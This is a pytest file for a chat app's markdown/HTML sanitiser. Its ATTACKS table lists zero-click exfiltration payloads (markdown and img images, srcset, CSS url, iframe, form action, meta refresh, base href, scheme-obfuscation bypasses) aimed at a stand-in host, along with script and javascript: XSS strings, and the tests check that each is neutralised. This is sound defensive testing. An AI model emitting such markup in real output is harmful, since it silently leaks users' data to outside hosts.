"""The sanitiser: what a chat item's markdown may carry to the browser (no outside fetch, no form), what it keeps."""

from __future__ import annotations

import re

import pytest

from chat.messages import ChatItem
from safe_render import allowed_image_src, safe_html, safe_markdown

EVIL = "http://127.0.0.1:9"


def fetches(html: str) -> list[str]:
    """URLs that make a browser fetch, submit or navigate without a click: in tag attributes, CSS and markdown."""
    found = []
    for tag in re.findall(r"<[A-Za-z][^<>]*>", html):
        name = tag[1:].split()[0].rstrip("/>").lower()
        pattern = (r'\b(?:src|srcset|poster|data|action|formaction|background|xlink:href|content)'
                   r'\s*=\s*["\']?([^"\'\s>]+)')
        if name in ("image", "use", "link", "base"):
            pattern = pattern.replace("src|", "src|href|")
        found += re.findall(pattern, tag, re.IGNORECASE)
        found += re.findall(r"url\(\s*['\"]?([^)'\"]+)", tag, re.IGNORECASE)
    for block in re.findall(r"<style[^>]*>(.*?)</style>", html, re.IGNORECASE | re.DOTALL):
        found += re.findall(r"url\(\s*['\"]?([^)'\"]+)", block, re.IGNORECASE)
    found += re.findall(r"!\[[^\]]*\]\(\s*<?([^)\s>]+)", html)
    found += ["reference " + ref for ref in re.findall(r"!\[[^\]]*\]\[([^\]]*)\]", html)]
    return [url for url in found if not allowed_image_src(url) and url not in ("0", "1")]


ATTACKS = {
    "markdown image": f"Cash below.\n\n![chart]({EVIL}/a.png?cash=100000)",
    "markdown image inline": f"see ![x]({EVIL}/b.png) here",
    "reference image": f"- item ![x][r]\n\n[r]: {EVIL}/ref.png",
    "img": f'Logo <img src="{EVIL}/img.png"> here',
    "img unquoted": f"<img src={EVIL}/img2.png>",
    "srcset": f'<img srcset="{EVIL}/s1.png 1x, {EVIL}/s2.png 2x">',
    "picture": f'<picture><source srcset="{EVIL}/src.png"><img src="{EVIL}/pic.png"></picture>',
    "css url": f'<p style="background:url({EVIL}/css.png)">x</p>',
    "style element": f"<style>body{{background:url({EVIL}/style.png)}}</style>text",
    "video poster": f'<video poster="{EVIL}/poster.png" src="{EVIL}/v.mp4"></video>',
    "audio": f'<audio src="{EVIL}/a.mp3"></audio>',
    "iframe": f'<iframe src="{EVIL}/frame"></iframe>',
    "object": f'<object data="{EVIL}/obj"></object>',
    "embed": f'<embed src="{EVIL}/embed">',
    "link": f'<link rel="stylesheet" href="{EVIL}/s.css">',
    "svg image": f'<svg><image href="{EVIL}/svg.png"/></svg>',
    "svg use": f'<svg><use xlink:href="{EVIL}/u.svg#a"/></svg>',
    "table background": f'<table background="{EVIL}/t.png"><tr><td>1</td></tr></table>',
    "form": f'<form action="{EVIL}/form"><input name="cash" value="1">'
            f'<button formaction="{EVIL}/fa">Go</button></form>',
    "protocol relative": '<img src="//127.0.0.1:9/pr.png">',
    "backslash": '<img src="/\\127.0.0.1:9/bs.png">',
    "tab in scheme": '<img src="ht\ttp://127.0.0.1:9/tab.png">',
    "in a list": f"1. one\n2. two <img src={EVIL}/list.png>",
    "in a quote": f"> quoted <img src={EVIL}/quote.png>",
    "in a table": f"| a |\n|---|\n| <img src={EVIL}/cell.png> |",
    "html block": f"<div>\n<img src={EVIL}/block.png>\n\n</div>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">',
    "base": f'<base href="{EVIL}/">![x](a.png)',
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_nothing_shown_fetches_or_submits(name):
    text = ATTACKS[name]
    assert fetches(text), "the attack itself must be one (else this test proves nothing)"
    out = safe_markdown(text)
    assert fetches(out) == [], out
    assert "<form" not in out and "<input" not in out and "<button" not in out
    assert "<meta" not in out and "<base" not in out and "<style" not in out


def test_an_outside_image_becomes_a_plain_link_named_by_its_alt_text():
    out = safe_markdown(ATTACKS["markdown image"])
    assert f'<a href="{EVIL}/a.png?cash=100000"' in out and "chart" in out
    out = safe_markdown(ATTACKS["img"])
    assert f'<a href="{EVIL}/img.png"' in out and "Logo" in out and "here" in out


def test_own_files_and_data_images_stay_images():
    assert '<img src="/gradio_api/file=/tmp/chart.png"' in safe_markdown("![c](/gradio_api/file=/tmp/chart.png)")
    data = "data:image/png;base64,iVBORw0KGgo="
    assert f'<img src="{data}"' in safe_html(f'<img src="{data}">')
    assert not allowed_image_src("/logout") and not allowed_image_src("//evil/x") and not allowed_image_src("")


def test_normal_markdown_passes_byte_for_byte():
    normal = ("**AAPL** closed at $244.60 (+1.27%).\n\n| symbol | close |\n|---|---|\n| AAPL | 244.60 |\n\n"
              "- RSI < 30 means oversold\n- a > b\n\n> note\n\n```python\nif rsi < 30:\n    buy()\n```\n\n"
              "[Yahoo](https://finance.yahoo.com)")
    assert safe_markdown(normal) is normal


def test_provenance_marks_and_plain_inline_tags_pass_unchanged():
    marked = 'AAPL <abbr title="Untraced: no tool output states this figure.">$999.99<sup>⚠</sup></abbr> today'
    assert safe_markdown(marked) == marked
    assert safe_markdown("H<sub>2</sub>O<br>next") == "H<sub>2</sub>O<br>next"


def test_code_showing_tags_is_shown_as_text_not_rendered():
    out = safe_markdown(f"```html\n<img src={EVIL}/code.png>\n```")
    assert "&lt;img" in out and fetches(out) == []


def test_event_handlers_and_scripts_are_removed():
    out = safe_markdown('<b onmouseover="alert(1)">x</b><script>alert(1)</script><a href="javascript:alert(1)">y</a>')
    assert "onmouseover" not in out and "<script" not in out and "javascript:" not in out


def test_chat_items_are_sanitised_where_they_become_gradio_content():
    item = ChatItem(content=ATTACKS["img"], kind="final", id="final",
                    display=ATTACKS["markdown image"] + " <abbr title=\"n\">1</abbr>")
    message = item.to_gradio()
    assert fetches(str(message.content)) == [] and f"{EVIL}/a.png" in str(message.content)
    step = ChatItem(content="ok", title=f"step ![t]({EVIL}/title.png)", id="s", kind="step", log="1 → 2 tokens")
    assert fetches(step.to_gradio().metadata["title"]) == []
    # API clients get the text as it was (they render it themselves).
    assert item.to_json()["content"] == ATTACKS["img"]
